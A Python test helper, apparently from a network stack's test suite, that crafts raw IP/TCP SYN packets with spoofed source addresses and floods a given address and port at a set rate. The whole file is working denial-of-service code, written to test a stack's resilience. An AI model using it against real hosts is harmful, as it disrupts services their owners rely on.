#!/usr/bin/python3
"""A SYN flood with spoofed sources, from inside the test's namespace only.

  syn_flood.py DST PORT COUNT RATE

Sends COUNT SYNs to DST:PORT at about RATE per second, each from a random address of
10.0.0.0/24 other than .0, .1 (the kernel), .2 (the stack) and .255, with a random
port and sequence number, and the options a Linux client sends (MSS, SACK-permitted,
timestamps, window scale). A raw socket with our own IP header (IP_HDRINCL) needs
root, which the tests have. The stack's SYN-ACKs go to addresses nobody has: the
kernel does not forward (ip_forward is 0 in a new namespace) and does not answer them.

Prints "flooding" when the first SYN goes out, then "sent N SYNs in T s (R/s)".
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq, tsval):
    # MSS 1460, SACK-permitted, timestamps, NOP, window scale 7 (20 bytes, as Linux).
    options = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2]) + struct.pack("!BBII", 8, 10, tsval, 0) + bytes([1, 3, 3, 7])
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    csum = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.getrandbits(16), 0, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    dst_s, port, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    dst = socket.inet_aton(dst_s)
    rng = random.Random(4987)
    packets = []
    for _ in range(count):
        src = bytes([10, 0, 0, rng.randint(3, 254)])
        packets.append(syn(src, dst, rng.randint(1024, 65535), port, rng.getrandbits(32), rng.getrandbits(32)))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    # The packets are ready: from here on the flood is on.
    print("flooding", flush=True)
    start = time.monotonic()
    sent = 0
    burst = 64
    for i in range(0, count, burst):
        for p in packets[i : i + burst]:
            try:
                s.sendto(p, (dst_s, 0))
                sent += 1
            except OSError:
                # The device queue is full: that SYN is lost, as on a congested link.
                pass
        ahead = (i + burst) / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    took = time.monotonic() - start
    print(f"sent {sent} SYNs in {took:.2f} s ({sent / took:.0f}/s)")


if __name__ == "__main__":
    main()
